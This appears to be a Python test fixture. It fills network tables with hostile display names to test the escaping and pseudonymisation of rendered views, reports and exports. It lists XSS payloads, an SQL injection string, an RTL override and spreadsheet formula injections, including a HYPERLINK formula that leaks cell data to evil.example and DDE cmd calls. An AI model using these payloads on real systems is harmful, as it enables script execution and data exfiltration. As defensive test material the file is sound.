"""Hostile names: what anyone can set as a display name in Slack, Teams or Forms, shared
by the tests that render views, reports, apps and exports with them.

Every string either runs script if put into HTML or JavaScript unescaped (a dialog
opens or a request leaves), becomes a live formula in a spreadsheet, or turns text
around (RTL override).  ``hostile_tables`` writes them into every text column of a
small network of the native tables (CSV folder): people's names, organisation names,
roles, keywords, e-mail addresses, event titles and networks.
"""

from __future__ import annotations

import unicodedata

__all__ = ["HOSTILE_NAMES", "FORMULAS", "hostile_tables", "REAL_PEOPLE", "name_variants"]

#: Script through every HTML context: element text, attribute values (both quotes),
#: <script> (JSON inside it), comments, URLs, templates.
HOSTILE_NAMES = [
    "</script><img src=x onerror=alert(document.title)>",
    "<script>alert('script tag')</script>",
    "\"><svg onload=alert(1)>",
    "'><img src=y onerror=alert(2)>",
    "<iframe srcdoc=\"<script>parent.alert(3)</script>\"></iframe>",
    "<!--<img src=z onerror=alert(4)>",
    "javascript:alert(5)",
    "{{constructor.constructor('alert(6)')()}}",
    "\u202eevil\u202c Äijälä <b onmouseover=alert(7)>x</b>",
    "Robert'); DROP TABLE actors;--",
]

#: Formula injection: each would be live in a spreadsheet if written as it is.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

#: The real people of ``hostile_tables``: (id, name, e-mail).  Their ids are as the
#: Teams and Forms readers make them: an e-mail address, a Teams name-id.
REAL_PEOPLE = [
    ("sanna.aijala@example.fi", "Sanna Äijälä", "sanna.aijala@example.fi"),
    ("noora-savolainen", "Noora Savolainen", "noora.savolainen@kunta.example"),
    ("P3", "Åsa Ek-Öhman", "asa.ekohman@hubi.example"),
]


def name_variants(name: str) -> set[str]:
    """A name as it may turn up: as written, reversed, decomposed, in other case."""
    parts = name.split()
    out = {name, " ".join(reversed(parts)), name.casefold(), name.upper()}
    out |= {unicodedata.normalize("NFD", v) for v in list(out)}
    return out


def hostile_tables(*, big_org_name: str | None = None, people_names: list[str] | None = None) -> dict:
    """The native tables (Finnish headers) with hostile names everywhere.  Six people
    share the organisation ``O9`` (``big_org_name``, by default a hostile name): an
    organisation of the minimum group size keeps its name when pseudonymised, so its
    hostile name reaches pseudonymised output too, unless it holds a word of someone's
    name (then it is a pseudonym): ``people_names`` (14, by default the hostile names
    and formulas) gives the other people other names."""
    big = big_org_name or HOSTILE_NAMES[0]
    people_names = people_names or HOSTILE_NAMES + FORMULAS[:4]
    assert len(people_names) == 14
    orgs = [["organisaatio_id", "nimi", "sektori", "laji"],
            ["O1", HOSTILE_NAMES[2], "yksityinen sektori", "yritys"],
            ["O2", "Äijälä Consulting", "kolmas sektori", "verkostohubi"],
            ["O9", big, "julkinen sektori", "kunta"]]
    actors = [["toimija_id", "nimi", "organisaatio_id", "rooli", "avainsanat", "sähköposti"]]
    for (aid, name, email), org in zip(REAL_PEOPLE, ("O1", "O2", "O1")):
        actors.append([aid, name, org, HOSTILE_NAMES[3], FORMULAS[0], email])
    hostile_ids = []
    for k, name in enumerate(people_names):
        aid = f"H{k}"
        hostile_ids.append(aid)
        actors.append([aid, name, "O9" if k < 6 else "O1", FORMULAS[k % 4],
                       HOSTILE_NAMES[(k + 1) % len(HOSTILE_NAMES)], ""])
    people = [a[0] for a in actors[1:]]
    events = [["tapahtuma_id", "päivämäärä", "laji", "verkosto", "taso", "otsikko"],
              ["E1", "14.3.2024", "tutustuminen", HOSTILE_NAMES[4], "strategia", HOSTILE_NAMES[1]],
              ["E2", "2.4.2024", "yhteiskehittäminen", "Kiertotalous", "palvelupolku",
               "1:1 coaching with Noora Savolainen"],
              ["E3", "20.9.2024", "yhteiskehittäminen", "Kiertotalous", "palvelupolku", FORMULAS[0]]]
    part = [["tapahtuma_id", "toimija_id"]]
    part += [["E1", p] for p in people]
    part += [["E2", p] for p in people[:4]]
    part += [["E3", p] for p in people[2:9]]
    ties = [["lähde", "kohde", "laji", "tunteminen", "luottamus", "sitoutuminen", "päivämäärä"]]
    for a, b in zip(people, people[1:]):
        ties.append([a, b, "tuntee", "4", "3", "2", "14.3.2024"])
    ties.append([people[0], people[-1], "yhteistyö", "2", "2", "", "1.10.2024"])
    return {"organisaatiot": orgs, "toimijat": actors, "tapahtumat": events,
            "osallistumiset": part, "suhteet": ties}


def _folded(text: str) -> str:
    """``text`` as a name search sees it: JSON and HTML escapes undone, accents off,
    lower case, any run of non-letters one space."""
    import html
    import re

    text = re.sub(r"\\u([0-9a-fA-F]{4})", lambda m: chr(int(m.group(1), 16)), text)
    text = html.unescape(text)
    text = unicodedata.normalize("NFKD", text)
    text = "".join(c for c in text if not unicodedata.combining(c)).casefold()
    return " " + " ".join(re.sub(r"[^a-z0-9]+", " ", text).split()) + " "


def identifying_values() -> list[str]:
    """Everything of ``REAL_PEOPLE`` that identifies them: ids, every name variant,
    e-mail addresses and their local parts, the one-person organisation, the event title
    that names a person."""
    out = []
    for aid, name, email in REAL_PEOPLE:
        out += [aid, email, email.split("@")[0], *sorted(name_variants(name))]
        out += [part for part in name.replace("-", " ").split() if len(part) >= 4]
    out += ["Äijälä Consulting", "coaching with Noora"]
    return [v for v in dict.fromkeys(out) if v != "P3"]


def leaks(text: str) -> list[str]:
    """The identifying values found in ``text`` (raw, or escaped for JSON or HTML, in
    any case or Unicode form, with any separators)."""
    folded = _folded(text)
    found = []
    for value in identifying_values():
        if value in text or _folded(value) in folded:
            found.append(value)
    return found
